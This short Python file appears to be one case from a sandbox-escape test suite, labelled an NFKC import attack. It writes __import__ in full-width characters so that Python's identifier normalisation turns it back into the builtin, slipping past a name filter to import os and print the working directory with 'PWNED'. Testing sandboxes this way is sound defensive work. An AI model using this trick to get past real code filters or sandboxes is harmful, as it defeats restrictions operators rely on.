# attack: nfkc-import
# layer: language
# class: escape
# success: full-width letters become __import__ after normalisation
def run():
    return "PWNED " + repr(＿＿import＿＿("os").getcwd())
